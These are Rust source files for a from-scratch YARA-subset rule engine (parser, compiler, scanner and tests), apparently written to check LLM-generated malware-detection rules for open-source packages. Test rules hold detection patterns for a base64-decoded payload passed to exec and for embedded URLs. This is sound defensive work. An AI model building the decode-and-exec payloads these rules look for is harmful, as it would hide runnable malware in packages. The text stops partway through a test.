        // reach the `#a >= 3` threshold only through the union.
        assert!(merged.iter().any(|m| m.rule == "triple"));
    }

    #[test]
    fn collect_hits_reports_regex_work_and_caches_cleanly() {
        let compiled = compile(UNION_RULES).expect("compile");
        let scanner = Scanner::new(&compiled);
        let hits = scanner.collect_hits(b"abbbc");
        assert_eq!(hits.metrics.regex_strings_evaluated, 1);
        assert_eq!(hits.metrics.regex_bytes_scanned, 5);
        assert!(!hits.is_empty());
        assert_eq!(hits.hit_count(), 1);
        assert!(hits.stored_bytes() > 0);
        // Evaluating the same cached hits twice gives the same verdicts
        // (the scratch generation stamps isolate the passes).
        let mut scratch = ScanScratch::new();
        let first = scanner.eval_hits([(0usize, &hits)], 5, |_| true, &mut scratch);
        let second = scanner.eval_hits([(0usize, &hits)], 5, |_| true, &mut scratch);
        assert_eq!(first, second);
        assert_eq!(first.len(), 1);
        assert_eq!(first[0].rule, "rx");
    }

    #[test]
    fn eval_hits_respects_routing_and_filesize() {
        let compiled = compile(
            "rule a { strings: $x = \"one\" condition: $x }\nrule big { condition: filesize > 100 }",
        )
        .expect("compile");
        let scanner = Scanner::new(&compiled);
        let hits = scanner.collect_hits(b"one");
        let mut scratch = ScanScratch::new();
        let routed = scanner.eval_hits([(0usize, &hits)], 3, |ri| ri == 1, &mut scratch);
        assert!(routed.is_empty(), "excluded rule a, small filesize");
        let big = scanner.eval_hits([(0usize, &hits)], 4096, |_| true, &mut scratch);
        assert_eq!(big.len(), 2);
    }

    #[test]
    fn collect_hits_applies_fullword_at_unit_edges() {
        let compiled = compile(UNION_RULES).expect("compile");
        let scanner = Scanner::new(&compiled);
        // `spawn` at the very end of a unit: no following byte, fullword
        // holds — same as scanning the unit alone.
        let hits = scanner.collect_hits(b"x spawn");
        let mut scratch = ScanScratch::new();
        let matches = scanner.eval_hits([(0usize, &hits)], 7, |_| true, &mut scratch);
        assert!(matches.iter().any(|m| m.rule == "word"));
        // Embedded in a longer word: rejected.
        let hits = scanner.collect_hits(b"respawned");
        let matches = scanner.eval_hits([(0usize, &hits)], 9, |_| true, &mut scratch);
        assert!(!matches.iter().any(|m| m.rule == "word"));
    }
}

//! Semantic analysis: turns a parsed [`RuleSet`] into scanner-ready
//! [`CompiledRules`].

use std::collections::HashSet;

use textmatch::Regex;

use crate::ast::{Condition, Rule, RuleSet, StringDef, StringValue};
use crate::error::CompileError;
use crate::parser::parse;

/// A fully validated, executable rule.
#[derive(Debug, Clone)]
pub struct CompiledRule {
    /// The parsed rule (meta, strings, condition).
    pub rule: Rule,
    /// Compiled regexes, parallel to the regex entries in
    /// `rule.strings` (`None` for text strings).
    pub regexes: Vec<Option<Regex>>,
}

/// A compiled set of rules ready for [`crate::Scanner`].
#[derive(Debug, Clone)]
pub struct CompiledRules {
    /// Rules in declaration order.
    pub rules: Vec<CompiledRule>,
}

impl CompiledRule {
    /// The rule's literal atoms and prefilter contract
    /// (see [`crate::literal_atoms`]).
    pub fn literal_atoms(&self) -> crate::RuleAtoms {
        crate::atoms::literal_atoms(self)
    }
}

impl CompiledRules {
    /// Number of compiled rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Returns true when no rules were compiled.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

/// Parses and semantically validates YARA `source`.
///
/// This is the "tool interface" the paper's alignment agent calls
/// (Fig. 4): a successful compile means the rule can be deployed, a
/// failure produces the error message the LLM uses to repair the rule.
///
/// # Errors
///
/// Beyond parse errors, detects:
/// * `duplicated rule identifier "x"`;
/// * `duplicated string identifier "$a"`;
/// * `undefined string "$a"` referenced from a condition;
/// * `unreferenced string "$a"` (yara treats this as an error too);
/// * `invalid regular expression in string "$a": ...`.
pub fn compile(source: &str) -> Result<CompiledRules, CompileError> {
    let ruleset = parse(source)?;
    compile_ruleset(&ruleset)
}

/// Compiles an already-parsed [`RuleSet`].
///
/// # Errors
///
/// Same semantic checks as [`compile`].
pub fn compile_ruleset(ruleset: &RuleSet) -> Result<CompiledRules, CompileError> {
    let mut names = HashSet::new();
    let mut rules = Vec::with_capacity(ruleset.rules.len());
    for rule in &ruleset.rules {
        if !names.insert(rule.name.clone()) {
            return Err(CompileError::global(format!(
                "duplicated rule identifier \"{}\"",
                rule.name
            )));
        }
        rules.push(compile_rule(rule)?);
    }
    Ok(CompiledRules { rules })
}

fn compile_rule(rule: &Rule) -> Result<CompiledRule, CompileError> {
    // Duplicate string identifiers.
    let mut ids = HashSet::new();
    for s in &rule.strings {
        if !ids.insert(s.id.as_str()) {
            return Err(CompileError::new(
                s.line,
                format!("duplicated string identifier \"${}\"", s.id),
            ));
        }
        if let StringValue::Text { text, .. } = &s.value {
            if text.is_empty() {
                return Err(CompileError::new(
                    s.line,
                    format!("empty string \"${}\"", s.id),
                ));
            }
        }
    }
    // Undefined references.
    for id in rule.condition.referenced_ids() {
        if !ids.contains(id) {
            return Err(CompileError::new(
                rule.line,
                format!("undefined string \"${id}\""),
            ));
        }
    }
    // `of` over an empty strings section.
    if uses_them(&rule.condition) && rule.strings.is_empty() {
        return Err(CompileError::new(
            rule.line,
            "condition uses 'them' but the rule defines no strings",
        ));
    }
    // Unreferenced strings (yara: "unreferenced string").
    let referenced = referenced_set(&rule.condition, &rule.strings);
    for s in &rule.strings {
        if !referenced.contains(s.id.as_str()) {
            return Err(CompileError::new(
                s.line,
                format!("unreferenced string \"${}\"", s.id),
            ));
        }
    }
    // Regex compilation.
    let mut regexes = Vec::with_capacity(rule.strings.len());
    for s in &rule.strings {
        match &s.value {
            StringValue::Regex { pattern, nocase } => {
                let compiled = if *nocase {
                    Regex::new_nocase(pattern)
                } else {
                    Regex::new(pattern)
                }
                .map_err(|e| {
                    CompileError::new(
                        s.line,
                        format!("invalid regular expression in string \"${}\": {}", s.id, e),
                    )
                })?;
                regexes.push(Some(compiled));
            }
            StringValue::Text { .. } => regexes.push(None),
        }
    }
    Ok(CompiledRule {
        rule: rule.clone(),
        regexes,
    })
}

fn uses_them(cond: &Condition) -> bool {
    use crate::ast::StringSet;
    match cond {
        Condition::AllOf(StringSet::Them)
        | Condition::AnyOf(StringSet::Them)
        | Condition::NOf(_, StringSet::Them) => true,
        Condition::And(parts) | Condition::Or(parts) => parts.iter().any(uses_them),
        Condition::Not(inner) => uses_them(inner),
        _ => false,
    }
}

/// Which string ids are referenced anywhere in the condition, counting
/// `them` / wildcard sets as referencing whatever they cover.
fn referenced_set<'a>(cond: &'a Condition, strings: &'a [StringDef]) -> HashSet<&'a str> {
    use crate::ast::StringSet;
    let mut out: HashSet<&str> = cond.referenced_ids().into_iter().collect();
    fn walk<'a>(cond: &'a Condition, strings: &'a [StringDef], out: &mut HashSet<&'a str>) {
        match cond {
            Condition::AllOf(set) | Condition::AnyOf(set) | Condition::NOf(_, set) => match set {
                StringSet::Them => out.extend(strings.iter().map(|s| s.id.as_str())),
                StringSet::Patterns(pats) => {
                    for s in strings {
                        if pats.iter().any(|p| p.matches(&s.id)) {
                            out.insert(s.id.as_str());
                        }
                    }
                }
            },
            Condition::And(parts) | Condition::Or(parts) => {
                for p in parts {
                    walk(p, strings, out);
                }
            }
            Condition::Not(inner) => walk(inner, strings, out),
            _ => {}
        }
    }
    walk(cond, strings, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compiles_valid_rule() {
        let rules = compile("rule r { strings: $a = \"x\" $b = /y+/ condition: $a or $b }")
            .expect("compile");
        assert_eq!(rules.len(), 1);
        assert!(rules.rules[0].regexes[0].is_none());
        assert!(rules.rules[0].regexes[1].is_some());
    }

    #[test]
    fn undefined_string_detected() {
        let e = compile("rule r { strings: $a = \"x\" condition: $a and $missing }").unwrap_err();
        assert!(
            e.to_string().contains("undefined string \"$missing\""),
            "{e}"
        );
    }

    #[test]
    fn duplicated_string_id_detected() {
        let e = compile("rule r { strings: $a = \"x\" $a = \"y\" condition: all of them }")
            .unwrap_err();
        assert!(
            e.to_string()
                .contains("duplicated string identifier \"$a\""),
            "{e}"
        );
    }

    #[test]
    fn duplicated_rule_name_detected() {
        let e = compile("rule r { condition: true } rule r { condition: false }").unwrap_err();
        assert!(
            e.to_string().contains("duplicated rule identifier \"r\""),
            "{e}"
        );
    }

    #[test]
    fn unreferenced_string_detected() {
        let e = compile("rule r { strings: $a = \"x\" $b = \"y\" condition: $a }").unwrap_err();
        assert!(e.to_string().contains("unreferenced string \"$b\""), "{e}");
    }

    #[test]
    fn wildcard_set_references_strings() {
        let src = "rule r { strings: $u1 = \"a\" $u2 = \"b\" condition: any of ($u*) }";
        assert!(compile(src).is_ok());
    }

    #[test]
    fn them_references_everything() {
        let src = "rule r { strings: $a = \"x\" $b = \"y\" condition: any of them }";
        assert!(compile(src).is_ok());
    }

    #[test]
    fn bad_regex_reported_with_string_id() {
        let e = compile("rule r { strings: $re = /[unclosed/ condition: $re }").unwrap_err();
        let msg = e.to_string();
        assert!(
            msg.contains("invalid regular expression in string \"$re\""),
            "{msg}"
        );
    }

    #[test]
    fn empty_text_string_rejected() {
        let e = compile("rule r { strings: $a = \"\" condition: $a }").unwrap_err();
        assert!(e.to_string().contains("empty string \"$a\""), "{e}");
    }

    #[test]
    fn count_reference_checked() {
        let e = compile("rule r { strings: $a = \"x\" condition: $a and #b > 1 }").unwrap_err();
        assert!(e.to_string().contains("undefined string \"$b\""), "{e}");
    }
}

//! Parsed YARA rule structure.

/// A parsed rule file: one or more rules.
#[derive(Debug, Clone, PartialEq)]
pub struct RuleSet {
    /// Rules in declaration order.
    pub rules: Vec<Rule>,
}

/// One `rule name : tags { ... }` block.
#[derive(Debug, Clone, PartialEq)]
pub struct Rule {
    /// Rule identifier.
    pub name: String,
    /// Optional tags after the colon.
    pub tags: Vec<String>,
    /// `meta:` entries in order.
    pub meta: Vec<(String, MetaValue)>,
    /// `strings:` definitions in order.
    pub strings: Vec<StringDef>,
    /// The `condition:` expression.
    pub condition: Condition,
    /// 1-based line of the `rule` keyword.
    pub line: usize,
}

impl Rule {
    /// Looks up a meta value by key.
    pub fn meta_value(&self, key: &str) -> Option<&MetaValue> {
        self.meta.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }
}

/// A `meta:` value.
#[derive(Debug, Clone, PartialEq)]
pub enum MetaValue {
    /// Quoted string value.
    Str(String),
    /// Integer value.
    Int(i64),
    /// `true` / `false`.
    Bool(bool),
}

/// One `$id = ...` string definition.
#[derive(Debug, Clone, PartialEq)]
pub struct StringDef {
    /// Identifier without the `$`.
    pub id: String,
    /// The pattern.
    pub value: StringValue,
    /// 1-based source line.
    pub line: usize,
}

/// The pattern of a string definition.
#[derive(Debug, Clone, PartialEq)]
pub enum StringValue {
    /// A plain text pattern with modifiers.
    Text {
        /// The literal bytes to find.
        text: String,
        /// Modifier set.
        mods: StringMods,
    },
    /// A `/regex/` pattern.
    Regex {
        /// Pattern between the slashes.
        pattern: String,
        /// Case-insensitive flag (`i` or `nocase`).
        nocase: bool,
    },
}

/// Text-string modifiers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct StringMods {
    /// Case-insensitive matching.
    pub nocase: bool,
    /// Also match the UTF-16LE expansion.
    pub wide: bool,
    /// Match the plain ASCII bytes (default unless `wide` alone is given).
    pub ascii: bool,
    /// Require non-alphanumeric boundaries around the match.
    pub fullword: bool,
}

/// A condition expression.
#[derive(Debug, Clone, PartialEq)]
pub enum Condition {
    /// `true` / `false`.
    Bool(bool),
    /// `$id` — the string matched at least once.
    StringRef(String),
    /// `all of them` / `all of ($a*)`.
    AllOf(StringSet),
    /// `any of them` / `any of ($a*)`.
    AnyOf(StringSet),
    /// `N of them` / `N of ($a*)`.
    NOf(i64, StringSet),
    /// `#id OP n` count comparison.
    Count {
        /// String identifier without `#`.
        id: String,
        /// One of `>`, `>=`, `<`, `<=`, `==`, `!=`.
        op: String,
        /// Right-hand side.
        value: i64,
    },
    /// `$id at offset`.
    At {
        /// String identifier without `$`.
        id: String,
        /// Required match offset.
        offset: i64,
    },
    /// `filesize OP n`.
    Filesize {
        /// One of `>`, `>=`, `<`, `<=`, `==`, `!=`.
        op: String,
        /// Right-hand side in bytes.
        value: i64,
    },
    /// Conjunction.
    And(Vec<Condition>),
    /// Disjunction.
    Or(Vec<Condition>),
    /// Negation.
    Not(Box<Condition>),
}

/// The string set an `of` expression quantifies over.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StringSet {
    /// `them` — every string in the rule.
    Them,
    /// `($a, $b*, ...)` — explicit identifiers, `*` suffix is a prefix
    /// wildcard.
    Patterns(Vec<StringPattern>),
}

/// One member of a parenthesized string set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StringPattern {
    /// Identifier text without `$` (and without the `*`).
    pub prefix: String,
    /// Whether a trailing `*` makes this a prefix wildcard.
    pub wildcard: bool,
}

impl StringPattern {
    /// Tests whether a string id matches this pattern.
    pub fn matches(&self, id: &str) -> bool {
        if self.wildcard {
            id.starts_with(&self.prefix)
        } else {
            id == self.prefix
        }
    }
}

impl Condition {
    /// Collects every string identifier referenced by the condition
    /// (explicit refs, counts and offsets — not `them` sets).
    pub fn referenced_ids(&self) -> Vec<&str> {
        let mut out = Vec::new();
        self.collect_ids(&mut out);
        out
    }

    fn collect_ids<'a>(&'a self, out: &mut Vec<&'a str>) {
        match self {
            Condition::StringRef(id) => out.push(id),
            Condition::Count { id, .. } | Condition::At { id, .. } => out.push(id),
            Condition::And(parts) | Condition::Or(parts) => {
                for p in parts {
                    p.collect_ids(out);
                }
            }
            Condition::Not(inner) => inner.collect_ids(out),
            Condition::AllOf(StringSet::Patterns(pats))
            | Condition::AnyOf(StringSet::Patterns(pats))
            | Condition::NOf(_, StringSet::Patterns(pats)) => {
                for p in pats {
                    if !p.wildcard {
                        out.push(&p.prefix);
                    }
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_pattern_exact_and_wildcard() {
        let exact = StringPattern {
            prefix: "a".into(),
            wildcard: false,
        };
        assert!(exact.matches("a"));
        assert!(!exact.matches("ab"));
        let wild = StringPattern {
            prefix: "url_".into(),
            wildcard: true,
        };
        assert!(wild.matches("url_1"));
        assert!(!wild.matches("ur"));
    }

    #[test]
    fn referenced_ids_walks_tree() {
        let c = Condition::And(vec![
            Condition::StringRef("a".into()),
            Condition::Not(Box::new(Condition::Count {
                id: "b".into(),
                op: ">".into(),
                value: 1,
            })),
        ]);
        assert_eq!(c.referenced_ids(), vec!["a", "b"]);
    }

    #[test]
    fn meta_lookup() {
        let rule = Rule {
            name: "r".into(),
            tags: vec![],
            meta: vec![("description".into(), MetaValue::Str("d".into()))],
            strings: vec![],
            condition: Condition::Bool(true),
            line: 1,
        };
        assert_eq!(
            rule.meta_value("description"),
            Some(&MetaValue::Str("d".into()))
        );
        assert_eq!(rule.meta_value("author"), None);
    }
}

//! `yara-engine` — a from-scratch YARA subset: lexer, parser, compiler and
//! scanner.
//!
//! The paper deploys its generated rules in the real YARA tool; the
//! alignment agent (Fig. 4, §IV-C) depends on the *compiler* to reject
//! malformed rules with actionable error messages, and the evaluation
//! (§V) depends on the *scanner* to match rules against packages. This
//! crate provides both, covering the subset of YARA that appears in
//! OSS-malware rules:
//!
//! * rule / meta / strings / condition structure with tags;
//! * text strings with `nocase`, `ascii`, `wide`, `fullword` modifiers;
//! * regex strings (`/.../i`) compiled by [`textmatch`];
//! * conditions: `and`/`or`/`not`, parentheses, string refs (`$a`),
//!   `all of them`, `any of them`, `N of ($p*)`, counts (`#a > 2`),
//!   offsets (`$a at 0`), `filesize` comparisons and boolean literals.
//!
//! Compile errors carry yara-style messages (`line 4: undefined string
//! "$url"`) because the LLM agent consumes them verbatim to repair rules.
//!
//! # Examples
//!
//! ```
//! use yara_engine::{compile, Scanner};
//!
//! let rules = compile(r#"
//! rule exec_b64 {
//!     meta:
//!         description = "base64 payload piped into exec"
//!     strings:
//!         $a = "base64.b64decode"
//!         $b = "exec("
//!     condition:
//!         all of them
//! }
//! "#)?;
//! let scanner = Scanner::new(&rules);
//! let hits = scanner.scan(b"exec(base64.b64decode(p))");
//! assert_eq!(hits.len(), 1);
//! # Ok::<(), yara_engine::CompileError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod ast;
mod atoms;
mod compiler;
mod error;
mod lexer;
mod parser;
mod scanner;

pub use ast::{Condition, MetaValue, Rule, RuleSet, StringDef, StringMods, StringValue};
pub use atoms::{literal_atoms, RuleAtoms};
pub use compiler::{compile, CompiledRule, CompiledRules};
pub use error::CompileError;
pub use lexer::{lex, Token, TokenKind};
pub use parser::parse;
pub use scanner::{FileHits, RuleMatch, ScanMetrics, ScanScratch, Scanner, StringMatch};

//! Recursive-descent parser for YARA rules.

use crate::ast::*;
use crate::error::CompileError;
use crate::lexer::{lex, Token, TokenKind};

/// Parses YARA `source` into a [`RuleSet`].
///
/// # Errors
///
/// Returns the first [`CompileError`] encountered, with yara-style
/// phrasing (`line N: syntax error, unexpected ...`).
pub fn parse(source: &str) -> Result<RuleSet, CompileError> {
    let tokens = lex(source)?;
    let mut p = Parser { tokens, pos: 0 };
    let mut rules = Vec::new();
    loop {
        match p.peek() {
            TokenKind::Eof => break,
            TokenKind::Ident(w) if w == "rule" => rules.push(p.rule()?),
            TokenKind::Ident(w) if w == "import" || w == "include" => {
                // `import "pe"` style headers — accepted and ignored; the
                // subset has no modules.
                p.bump();
                p.bump();
            }
            other => {
                return Err(CompileError::new(
                    p.line(),
                    format!(
                        "syntax error, unexpected {}, expecting rule",
                        describe(other)
                    ),
                ))
            }
        }
    }
    if rules.is_empty() {
        return Err(CompileError::new(1, "syntax error, expecting rule"));
    }
    Ok(RuleSet { rules })
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &TokenKind {
        &self.tokens[self.pos.min(self.tokens.len() - 1)].kind
    }

    fn line(&self) -> usize {
        self.tokens[self.pos.min(self.tokens.len() - 1)].line
    }

    fn bump(&mut self) -> TokenKind {
        let k = self.tokens[self.pos.min(self.tokens.len() - 1)]
            .kind
            .clone();
        if self.pos < self.tokens.len() - 1 {
            self.pos += 1;
        }
        k
    }

    fn expect_punct(&mut self, glyph: &str) -> Result<(), CompileError> {
        if matches!(self.peek(), TokenKind::Punct(p) if p == glyph) {
            self.bump();
            Ok(())
        } else {
            Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting '{glyph}'",
                    describe(self.peek())
                ),
            ))
        }
    }

    fn ident(&mut self, what: &str) -> Result<String, CompileError> {
        match self.peek().clone() {
            TokenKind::Ident(w) => {
                self.bump();
                Ok(w)
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting {what}",
                    describe(&other)
                ),
            )),
        }
    }

    fn rule(&mut self) -> Result<Rule, CompileError> {
        let line = self.line();
        self.bump(); // 'rule'
        let name = self.ident("rule identifier")?;
        if is_reserved(&name) {
            return Err(CompileError::new(
                line,
                format!("keyword \"{name}\" cannot be used as a rule identifier"),
            ));
        }
        let mut tags = Vec::new();
        if matches!(self.peek(), TokenKind::Punct(p) if p == ":") {
            self.bump();
            while let TokenKind::Ident(tag) = self.peek().clone() {
                tags.push(tag);
                self.bump();
            }
        }
        self.expect_punct("{")?;
        let mut meta = Vec::new();
        let mut strings = Vec::new();
        let mut condition = None;
        loop {
            match self.peek().clone() {
                TokenKind::Ident(w) if w == "meta" => {
                    self.bump();
                    self.expect_punct(":")?;
                    meta = self.meta_entries()?;
                }
                TokenKind::Ident(w) if w == "strings" => {
                    self.bump();
                    self.expect_punct(":")?;
                    strings = self.string_defs()?;
                }
                TokenKind::Ident(w) if w == "condition" => {
                    self.bump();
                    self.expect_punct(":")?;
                    condition = Some(self.condition()?);
                }
                TokenKind::Punct(p) if p == "}" => {
                    self.bump();
                    break;
                }
                other => {
                    return Err(CompileError::new(
                        self.line(),
                        format!(
                            "syntax error, unexpected {}, expecting meta, strings or condition",
                            describe(&other)
                        ),
                    ))
                }
            }
        }
        let condition = condition.ok_or_else(|| {
            CompileError::new(line, format!("rule \"{name}\" has no condition section"))
        })?;
        Ok(Rule {
            name,
            tags,
            meta,
            strings,
            condition,
            line,
        })
    }

    fn meta_entries(&mut self) -> Result<Vec<(String, MetaValue)>, CompileError> {
        let mut out = Vec::new();
        loop {
            match self.peek().clone() {
                TokenKind::Ident(key)
                    if !matches!(key.as_str(), "strings" | "condition" | "meta") =>
                {
                    self.bump();
                    self.expect_punct("=")?;
                    let value = match self.peek().clone() {
                        TokenKind::Text(s) => {
                            self.bump();
                            MetaValue::Str(s)
                        }
                        TokenKind::Int(i) => {
                            self.bump();
                            MetaValue::Int(i)
                        }
                        TokenKind::Ident(w) if w == "true" || w == "false" => {
                            self.bump();
                            MetaValue::Bool(w == "true")
                        }
                        other => {
                            return Err(CompileError::new(
                                self.line(),
                                format!("invalid meta value, unexpected {}", describe(&other)),
                            ))
                        }
                    };
                    out.push((key, value));
                }
                _ => break,
            }
        }
        if out.is_empty() {
            return Err(CompileError::new(self.line(), "empty meta section"));
        }
        Ok(out)
    }

    fn string_defs(&mut self) -> Result<Vec<StringDef>, CompileError> {
        let mut out = Vec::new();
        while let TokenKind::StringId(id) = self.peek().clone() {
            let line = self.line();
            self.bump();
            if id.is_empty() {
                return Err(CompileError::new(line, "invalid string identifier \"$\""));
            }
            self.expect_punct("=")?;
            let value = match self.peek().clone() {
                TokenKind::Text(text) => {
                    self.bump();
                    let mods = self.string_mods(line)?;
                    StringValue::Text { text, mods }
                }
                TokenKind::Regex { pattern, nocase } => {
                    self.bump();
                    // `nocase` keyword can also follow a regex.
                    let mods = self.string_mods(line)?;
                    StringValue::Regex {
                        pattern,
                        nocase: nocase || mods.nocase,
                    }
                }
                other => {
                    return Err(CompileError::new(
                        self.line(),
                        format!(
                            "syntax error, unexpected {}, expecting string or regular expression",
                            describe(&other)
                        ),
                    ))
                }
            };
            out.push(StringDef { id, value, line });
        }
        if out.is_empty() {
            return Err(CompileError::new(self.line(), "empty strings section"));
        }
        Ok(out)
    }

    fn string_mods(&mut self, line: usize) -> Result<StringMods, CompileError> {
        let mut mods = StringMods {
            ascii: true,
            ..StringMods::default()
        };
        let mut saw_wide = false;
        let mut saw_ascii = false;
        while let TokenKind::Ident(w) = self.peek().clone() {
            match w.as_str() {
                "nocase" => mods.nocase = true,
                "wide" => {
                    mods.wide = true;
                    saw_wide = true;
                }
                "ascii" => saw_ascii = true,
                "fullword" => mods.fullword = true,
                "private" | "xor" | "base64" => {
                    return Err(CompileError::new(
                        line,
                        format!("unsupported string modifier \"{w}\""),
                    ))
                }
                _ => break,
            }
            self.bump();
        }
        // YARA semantics: `wide` alone drops the ascii variant.
        if saw_wide && !saw_ascii {
            mods.ascii = false;
        }
        Ok(mods)
    }

    // ---- condition grammar ----

    fn condition(&mut self) -> Result<Condition, CompileError> {
        self.or_expr()
    }

    fn or_expr(&mut self) -> Result<Condition, CompileError> {
        let mut parts = vec![self.and_expr()?];
        while matches!(self.peek(), TokenKind::Ident(w) if w == "or") {
            self.bump();
            parts.push(self.and_expr()?);
        }
        Ok(if parts.len() == 1 {
            parts.pop().expect("one part")
        } else {
            Condition::Or(parts)
        })
    }

    fn and_expr(&mut self) -> Result<Condition, CompileError> {
        let mut parts = vec![self.not_expr()?];
        while matches!(self.peek(), TokenKind::Ident(w) if w == "and") {
            self.bump();
            parts.push(self.not_expr()?);
        }
        Ok(if parts.len() == 1 {
            parts.pop().expect("one part")
        } else {
            Condition::And(parts)
        })
    }

    fn not_expr(&mut self) -> Result<Condition, CompileError> {
        if matches!(self.peek(), TokenKind::Ident(w) if w == "not") {
            self.bump();
            return Ok(Condition::Not(Box::new(self.not_expr()?)));
        }
        self.primary()
    }

    fn primary(&mut self) -> Result<Condition, CompileError> {
        match self.peek().clone() {
            TokenKind::Punct(p) if p == "(" => {
                self.bump();
                let inner = self.or_expr()?;
                self.expect_punct(")")?;
                Ok(inner)
            }
            TokenKind::Ident(w) if w == "true" || w == "false" => {
                self.bump();
                Ok(Condition::Bool(w == "true"))
            }
            TokenKind::Ident(w) if w == "all" || w == "any" => {
                self.bump();
                self.expect_of()?;
                let set = self.string_set()?;
                Ok(if w == "all" {
                    Condition::AllOf(set)
                } else {
                    Condition::AnyOf(set)
                })
            }
            TokenKind::Int(n) => {
                self.bump();
                if matches!(self.peek(), TokenKind::Ident(w) if w == "of") {
                    self.bump();
                    let set = self.string_set()?;
                    Ok(Condition::NOf(n, set))
                } else {
                    Err(CompileError::new(
                        self.line(),
                        "syntax error, integer in condition must be part of a comparison or 'of' expression",
                    ))
                }
            }
            TokenKind::Ident(w) if w == "filesize" => {
                self.bump();
                let op = self.cmp_op()?;
                let value = self.int()?;
                Ok(Condition::Filesize { op, value })
            }
            TokenKind::CountId(id) => {
                self.bump();
                if id.is_empty() {
                    return Err(CompileError::new(
                        self.line(),
                        "invalid count identifier \"#\"",
                    ));
                }
                let op = self.cmp_op()?;
                let value = self.int()?;
                Ok(Condition::Count { id, op, value })
            }
            TokenKind::StringId(id) => {
                let line = self.line();
                self.bump();
                if id.is_empty() {
                    return Err(CompileError::new(line, "invalid string identifier \"$\""));
                }
                if matches!(self.peek(), TokenKind::Ident(w) if w == "at") {
                    self.bump();
                    let offset = self.int()?;
                    Ok(Condition::At { id, offset })
                } else {
                    Ok(Condition::StringRef(id))
                }
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting condition expression",
                    describe(&other)
                ),
            )),
        }
    }

    fn expect_of(&mut self) -> Result<(), CompileError> {
        match self.peek().clone() {
            TokenKind::Ident(w) if w == "of" => {
                self.bump();
                Ok(())
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting 'of'",
                    describe(&other)
                ),
            )),
        }
    }

    fn string_set(&mut self) -> Result<StringSet, CompileError> {
        match self.peek().clone() {
            TokenKind::Ident(w) if w == "them" => {
                self.bump();
                Ok(StringSet::Them)
            }
            TokenKind::Punct(p) if p == "(" => {
                self.bump();
                let mut pats = Vec::new();
                loop {
                    match self.peek().clone() {
                        TokenKind::StringId(prefix) => {
                            self.bump();
                            let wildcard = if matches!(self.peek(), TokenKind::Punct(p) if p == "*")
                            {
                                self.bump();
                                true
                            } else {
                                false
                            };
                            pats.push(StringPattern { prefix, wildcard });
                        }
                        other => {
                            return Err(CompileError::new(
                                self.line(),
                                format!(
                                    "syntax error, unexpected {}, expecting string identifier",
                                    describe(&other)
                                ),
                            ))
                        }
                    }
                    match self.peek().clone() {
                        TokenKind::Punct(p) if p == "," => {
                            self.bump();
                        }
                        TokenKind::Punct(p) if p == ")" => {
                            self.bump();
                            break;
                        }
                        other => {
                            return Err(CompileError::new(
                                self.line(),
                                format!(
                                    "syntax error, unexpected {}, expecting ',' or ')'",
                                    describe(&other)
                                ),
                            ))
                        }
                    }
                }
                Ok(StringSet::Patterns(pats))
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting 'them' or string set",
                    describe(&other)
                ),
            )),
        }
    }

    fn cmp_op(&mut self) -> Result<String, CompileError> {
        match self.peek().clone() {
            TokenKind::Punct(p) if matches!(p.as_str(), ">" | ">=" | "<" | "<=" | "==" | "!=") => {
                self.bump();
                Ok(p)
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting comparison operator",
                    describe(&other)
                ),
            )),
        }
    }

    fn int(&mut self) -> Result<i64, CompileError> {
        match self.peek().clone() {
            TokenKind::Int(i) => {
                self.bump();
                Ok(i)
            }
            other => Err(CompileError::new(
                self.line(),
                format!(
                    "syntax error, unexpected {}, expecting integer",
                    describe(&other)
                ),
            )),
        }
    }
}

fn is_reserved(word: &str) -> bool {
    matches!(
        word,
        "rule"
            | "meta"
            | "strings"
            | "condition"
            | "and"
            | "or"
            | "not"
            | "all"
            | "any"
            | "of"
            | "them"
            | "at"
            | "filesize"
            | "true"
            | "false"
            | "import"
            | "include"
            | "nocase"
            | "wide"
            | "ascii"
            | "fullword"
    )
}

fn describe(kind: &TokenKind) -> String {
    match kind {
        TokenKind::Ident(w) => format!("identifier \"{w}\""),
        TokenKind::StringId(id) => format!("string identifier \"${id}\""),
        TokenKind::CountId(id) => format!("count \"#{id}\""),
        TokenKind::Text(_) => "string literal".into(),
        TokenKind::Regex { .. } => "regular expression".into(),
        TokenKind::Int(i) => format!("integer {i}"),
        TokenKind::Punct(p) => format!("'{p}'"),
        TokenKind::Eof => "end of file".into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = r#"
rule suspicious_exec : oss malware {
    meta:
        description = "exec of a decoded payload"
        severity = 5
        deployable = true
    strings:
        $decode = "base64.b64decode" nocase
        $run = "exec("
        $url = /https?:\/\/[\w.\/-]+/
    condition:
        ($decode and $run) or $url
}
"#;

    #[test]
    fn parses_full_rule() {
        let rs = parse(GOOD).expect("parse");
        assert_eq!(rs.rules.len(), 1);
        let r = &rs.rules[0];
        assert_eq!(r.name, "suspicious_exec");
        assert_eq!(r.tags, vec!["oss".to_owned(), "malware".to_owned()]);
        assert_eq!(r.meta.len(), 3);
        assert_eq!(r.strings.len(), 3);
    }

    #[test]
    fn meta_values_typed() {
        let rs = parse(GOOD).expect("parse");
        let r = &rs.rules[0];
        assert_eq!(
            r.meta_value("description"),
            Some(&MetaValue::Str("exec of a decoded payload".into()))
        );
        assert_eq!(r.meta_value("severity"), Some(&MetaValue::Int(5)));
        assert_eq!(r.meta_value("deployable"), Some(&MetaValue::Bool(true)));
    }

    #[test]
    fn string_modifiers_parsed() {
        let rs = parse(GOOD).expect("parse");
